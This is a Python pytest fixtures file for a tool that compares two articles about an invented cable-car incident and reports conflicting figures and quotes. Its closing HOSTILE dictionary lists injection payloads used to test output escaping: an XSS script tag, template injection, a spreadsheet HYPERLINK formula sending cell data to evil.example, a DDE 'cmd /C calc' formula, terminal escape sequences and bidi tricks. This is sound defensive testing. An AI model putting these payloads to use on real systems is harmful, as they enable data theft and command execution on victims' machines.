"""Reports built by hand over two articles about an invented event; no stage of the pipeline runs."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest

from discrepancy.identity import identify
from discrepancy.model import (
    Article,
    Fact,
    Finding,
    Kind,
    Mention,
    Report,
    Sentence,
    Severity,
    Value,
    When,
    Words,
)
from discrepancy.report import Listing

GOLDEN = Path(__file__).parents[2] / "fixtures" / "golden"


def find_mention(
    article: Article, surface: str, kind: Kind, value: Value | When | Words, noun: str | None = None
) -> Mention:
    """A mention of the first place where these words stand; its sentence ends at a full stop or line."""
    start = article.text.index(surface)
    end = start + len(surface)
    opening = max((m.end() for m in re.finditer(r"\. |\n", article.text[:start])), default=0)
    closing = re.compile(r"(?<!\b[ap])\.(?=\s|$)|$|\n").search(article.text, end)
    assert closing is not None
    last = closing.end() if closing[0] == "." else closing.start()
    sentence = Sentence(opening, last, article.text[opening:last], 0)
    return Mention(kind, surface, start, end, value, sentence, noun)


def pair_up(severity: Severity, confidence: float, explanation: str, a: Mention, b: Mention) -> Finding:
    """A finding without an id yet."""
    return Finding("", a.kind, severity, confidence, explanation, a, b)


def read_golden(name: str, **known: str) -> Article:
    """An article of the golden pair."""
    text = (GOLDEN / "articles" / f"{name}.txt").read_text(encoding="utf-8")
    return Article(text, name, **known)


@pytest.fixture
def courier() -> Article:
    return read_golden(
        "courier",
        title="Cable car stalls above Lake Orvane, passengers lowered by rope",
        source="Vellmark Courier",
        published="2024-03-04",
    )


@pytest.fixture
def harbor() -> Article:
    return read_golden("harbor")


@pytest.fixture
def report(courier: Article, harbor: Article) -> Report:
    """Two hard conflicts that repeat and overlap, two soft ones, three agreements, loose facts."""

    def a(surface: str, kind: Kind, value: Value | When | Words, noun: str | None = None) -> Mention:
        return find_mention(courier, surface, kind, value, noun)

    def b(surface: str, kind: Kind, value: Value | When | Words, noun: str | None = None) -> Mention:
        return find_mention(harbor, surface, kind, value, noun)

    people = pair_up(
        "hard",
        0.97,
        "14 vs 16 passengers",
        a("14", "count", Value(14, 14), "passenger"),
        b("Sixteen people", "count", Value(16, 16), "person"),
    )
    headline = b("Sixteen", "count", Value(16, 16))
    people = Finding("", "count", "hard", 0.97, people.explanation, people.a, people.b, repeats_b=(headline,))
    conflicts = [
        people,
        pair_up(
            "hard",
            0.93,
            "second vs third since December",
            a("second", "ordinal", Value(2, 2), "breakdown"),
            b("third", "ordinal", Value(3, 3), "failure"),
        ),
        pair_up(
            "hard",
            0.884,
            "3 hours vs 2 hours",
            a("three-hour", "duration", Value(3, 3, "hour"), "wait"),
            b("two hours", "duration", Value(2, 2, "hour")),
        ),
        pair_up(
            "soft",
            0.71,
            "$1.2 million is outside at least $1.5 million; one side gives a bound",
            a("$1.2 million", "money", Value(1.2e6, 1.2e6, "dollar"), "repair"),
            b("at least $1.5 million", "money", Value(1.5e6, float("inf"), "dollar", ">="), "repair"),
        ),
        pair_up(
            "soft",
            0.64,
            "the same remark in other words",
            a(
                "“Nobody panicked, and nobody was hurt,”",
                "quote",
                Words("Nobody panicked, and nobody was hurt"),
            ),
            b(
                "“Nobody panicked and no one was hurt,”",
                "quote",
                Words("Nobody panicked and no one was hurt"),
            ),
        ),
    ]
    agreements = [
        pair_up(
            "agree",
            0.95,
            "about 400 on both sides",
            a("about 400", "count", Value(400, 400, bound="~"), "person"),
            b("roughly 400", "count", Value(400, 400, bound="~"), "passenger"),
        ),
        pair_up(
            "agree",
            0.9,
            "85 metres is 279 feet",
            a("85 meters", "measure", Value(85, 85, "metre")),
            b("279 feet", "measure", Value(279, 279, "foot")),
        ),
        pair_up(
            "agree", 0.88, "both 1968", a("1968", "date", When(year=1968)), b("1968", "date", When(year=1968))
        ),
    ]
    return Report(
        courier,
        harbor,
        tuple(identify(conflicts)),
        tuple(identify(agreements)),
        only_a=(Fact((a("a day", "rate", Value(1, 1, "day")),)),),
        only_b=(),
    )


@pytest.fixture
def listing(report: Report) -> Listing:
    findings = sorted((*report.conflicts, *report.agreements), key=lambda finding: finding.a.start)
    return Listing(report.a, tuple(finding.a for finding in findings))


@pytest.fixture
def make_report() -> Callable[[str, str, str], Report]:
    """A report of one conflict over any two texts that hold the given words."""

    def make(text_a: str, text_b: str, surface: str, explanation: str = "1 vs 2") -> Report:
        first, second = Article(text_a, "a"), Article(text_b, "b")
        finding = pair_up(
            "hard",
            0.9,
            explanation,
            find_mention(first, surface, "count", Value(1, 1)),
            find_mention(second, surface, "count", Value(2, 2)),
        )
        return Report(first, second, tuple(identify([finding])), ())

    return make


HOSTILE = {
    "script": '<script>alert("40")</script> & </style><img src=x onerror=alert(1)> 40 people',
    "template": "{{ 7 * 7 }} {% raw %} 40 {# gone #}",
    "formula": '=HYPERLINK("http://evil.example/?q="&A1,"click") 40 people',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0 40",
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://evil.example\x1b\\link \x9b2J 40\x07\x08\x00",
    "markup": "[bold red]40[/bold red] [link=http://evil.example]x[/link] [/] :smile: \\[",
    "links": "![40](http://evil.example/x.png) [40](javascript:alert(1)) <http://a.example> www.b.example",
    "emphasis": "**bold** _it_ `code` # not ~~gone~~ | cell | $x$ @someone 40",
    "blocks": "# 40 heads",
    "list": "1. 40 items",
    "rule": "--- 40",
    "bidi": "safe \u202e40 evil\u202c \u2066x\u2069 \u200f 40",
    "separators": "one\u2028two\u2029 40 \x85 three\x0b\x0c",
    "surrogate": "half \ud83d a pair 40",
    "long": "word " * 10_000 + "40 " + "unbroken" * 6_000,
    "unbroken": "x" * 50_000 + "40" + "y" * 50_000,
    "quotes": "\"40\" 'forty' `40`",
    "crlf": "first line\r\nsecond 40 line\rthird",
}


@pytest.fixture(params=HOSTILE)
def hostile(request: pytest.FixtureRequest, make_report: Callable[..., Report]) -> Report:
    """A report whose articles, explanation and file names are made to break out of the format."""
    text = HOSTILE[request.param]
    return make_report(text, "plain 40", "40", text[:300])
